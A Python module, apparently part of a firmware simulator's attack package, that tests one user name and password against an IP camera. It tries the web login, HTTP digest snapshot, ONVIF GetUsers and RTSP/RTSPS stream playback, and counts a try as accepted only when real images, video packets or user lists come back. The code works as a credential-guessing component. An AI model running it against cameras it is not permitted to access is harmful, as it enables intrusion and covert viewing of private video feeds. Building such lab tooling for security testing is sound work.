"""One try of one user name and password on one way into a camera.

A try is accepted only on proof: a picture's bytes, a video packet, the list of users. A status code alone is no proof.
"""

import http.client
import json
import secrets
import socket
import ssl
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum

from firmware_sim.attacks.digest_client import answer
from firmware_sim.attacks.first_use_tls import UnsafeFirstUseTls

MAX_READ_BYTES = 262_144
"""Far above a snapshot; a camera cannot feed an attacker without end."""

JPEG_START = b"\xff\xd8\xff"
RTP_JPEG = 26

GET_USERS = (
    b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>'
    b'<GetUsers xmlns="http://www.onvif.org/ver10/device/wsdl"/></s:Body></s:Envelope>'
)


class Outcome(StrEnum):
    """What became of a try."""

    ACCEPTED = "accepted"
    REFUSED = "refused"
    UNREACHABLE = "unreachable"


@dataclass(frozen=True, slots=True)
class Seen:
    """The outcome and what was seen that shows it."""

    outcome: Outcome
    detail: str


@dataclass(frozen=True, slots=True)
class Try:
    """One user name and password for one port."""

    host: str
    port: int
    user: str
    password: str
    timeout_s: float
    tls: UnsafeFirstUseTls


def try_web(attempt: Try) -> Seen:
    """Sign in on the web interface, then fetch the picture with the session.

    Raises:
        OSError: the camera cannot be reached.
        http.client.HTTPException: it does not speak HTTP.
    """
    body = json.dumps({"user": attempt.user, "password": attempt.password}).encode()
    status, headers, _ = _https(attempt, "POST", "/api/login", body, {"Content-Type": "application/json"})
    cookie = headers.get("Set-Cookie", "").partition(";")[0]
    if status != 200 or not cookie:
        return _refused("login", status)
    status, _, picture = _https(attempt, "GET", "/snapshot.jpg", b"", {"Cookie": cookie})
    return _picture(status, picture)


def try_snapshot(attempt: Try) -> Seen:
    """Fetch the picture with HTTP digest.

    Raises:
        OSError: the camera cannot be reached.
        http.client.HTTPException: it does not speak HTTP.
    """
    status, picture = _with_digest(attempt, "GET", "/snapshot.jpg", b"")
    return _picture(status, picture)


def try_onvif(attempt: Try) -> Seen:
    """Ask the ONVIF device service for its users with HTTP digest.

    Raises:
        OSError: the camera cannot be reached.
        http.client.HTTPException: it does not speak HTTP.
    """
    status, reply = _with_digest(attempt, "POST", "/onvif/device_service", GET_USERS)
    if status == 200 and b"GetUsersResponse" in reply:
        return Seen(Outcome.ACCEPTED, f"list of users, {len(reply)} bytes")
    return _refused("GetUsers", status)


def try_rtsps(attempt: Try) -> Seen:
    """Play the stream over TLS until a video packet comes.

    Raises:
        OSError: the camera cannot be reached.
    """
    context = attempt.tls.context(attempt.host, attempt.port)
    with (
        socket.create_connection((attempt.host, attempt.port), attempt.timeout_s) as plain,
        context.wrap_socket(plain) as sock,
    ):
        return _play(attempt, sock, "rtsps")


def try_rtsp(attempt: Try) -> Seen:
    """Play the stream in the clear until a video packet comes.

    Raises:
        OSError: the camera cannot be reached.
    """
    with socket.create_connection((attempt.host, attempt.port), attempt.timeout_s) as sock:
        return _play(attempt, sock, "rtsp")


LOGIN_PATHS: dict[str, Callable[[Try], Seen]] = {
    "web": try_web,
    "snapshot": try_snapshot,
    "onvif": try_onvif,
    "rtsps": try_rtsps,
    "rtsp": try_rtsp,
}


def _https(
    attempt: Try, method: str, path: str, body: bytes, headers: dict[str, str]
) -> tuple[int, http.client.HTTPMessage, bytes]:
    context = attempt.tls.context(attempt.host, attempt.port)
    connection = http.client.HTTPSConnection(attempt.host, attempt.port, timeout=attempt.timeout_s, context=context)
    try:
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        return response.status, response.headers, response.read(MAX_READ_BYTES)
    finally:
        connection.close()


def _with_digest(attempt: Try, method: str, path: str, body: bytes) -> tuple[int, bytes]:
    status, headers, reply = _https(attempt, method, path, body, {})
    if status != 401:
        return status, reply
    challenges = headers.get_all("WWW-Authenticate", [])
    value = answer(challenges, method, path, attempt.user, attempt.password, cnonce=secrets.token_hex(8))
    if value is None:
        return status, reply
    status, _, reply = _https(attempt, method, path, body, {"Authorization": value})
    return status, reply


def _picture(status: int, data: bytes) -> Seen:
    if status == 200 and data.startswith(JPEG_START):
        return Seen(Outcome.ACCEPTED, f"picture of {len(data)} bytes")
    return _refused("picture", status)


def _refused(what: str, status: int) -> Seen:
    return Seen(Outcome.REFUSED, f"{what}: status {status}")


def _play(attempt: Try, sock: socket.socket | ssl.SSLSocket, scheme: str) -> Seen:
    url = f"{scheme}://{attempt.host}:{attempt.port}/stream"
    client = _RtspClient(sock, attempt.user, attempt.password)
    for method, target, headers in (
        ("DESCRIBE", url, {"Accept": "application/sdp"}),
        ("SETUP", f"{url}/track1", {"Transport": "RTP/AVP/TCP;unicast;interleaved=0-1"}),
        ("PLAY", f"{url}/", {}),
    ):
        status = client.request(method, target, headers)
        if status != 200:
            return _refused(method, status)
    return client.first_packet()


class _RtspClient:
    """As much RTSP as it takes to see whether video comes."""

    def __init__(self, sock: socket.socket | ssl.SSLSocket, user: str, password: str) -> None:
        self._stream = sock.makefile("rwb")
        self._user = user
        self._password = password
        self._sequence = 0
        self._session = ""
        self._challenges: list[str] = []

    def request(self, method: str, target: str, headers: dict[str, str]) -> int:
        """Send, and once more with the password when challenged; returns the last status, 0 for no answer."""
        status = self._exchange(method, target, headers)
        if status == 401 and self._challenges:
            return self._exchange(method, target, headers)
        return status

    def _exchange(self, method: str, target: str, headers: dict[str, str]) -> int:
        self._sequence += 1
        lines = [f"{method} {target} RTSP/1.0", f"CSeq: {self._sequence}"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        if self._session:
            lines.append(f"Session: {self._session}")
        value = answer(self._challenges, method, target, self._user, self._password, cnonce=secrets.token_hex(8))
        if value is not None:
            lines.append(f"Authorization: {value}")
        self._stream.write(("\r\n".join(lines) + "\r\n\r\n").encode())
        self._stream.flush()
        return self._read_reply()

    def _read_reply(self) -> int:
        parts = self._stream.readline(1_024).split()
        if len(parts) < 2 or not parts[1].isdigit():
            return 0
        length = 0
        challenges: list[str] = []
        while line := self._stream.readline(4_096).strip():
            name, _, text = line.decode("latin-1").partition(":")
            value = text.strip()
            if name.lower() == "content-length":
                length = min(int(value), MAX_READ_BYTES) if value.isdigit() else 0
            elif name.lower() == "session":
                self._session = value.partition(";")[0]
            elif name.lower() == "www-authenticate":
                challenges.append(value)
        self._stream.read(length)
        self._challenges = challenges or self._challenges
        return int(parts[1])

    def first_packet(self) -> Seen:
        """Wait for one interleaved RTP packet with a picture in it."""
        header = self._stream.read(4)
        if len(header) == 4 and header[:1] == b"$":
            packet = self._stream.read(int.from_bytes(header[2:], "big"))
            if len(packet) > 12 and packet[1] & 0x7F == RTP_JPEG:
                return Seen(Outcome.ACCEPTED, f"video packet of {len(packet)} bytes")
        return Seen(Outcome.REFUSED, "PLAY: no video came")
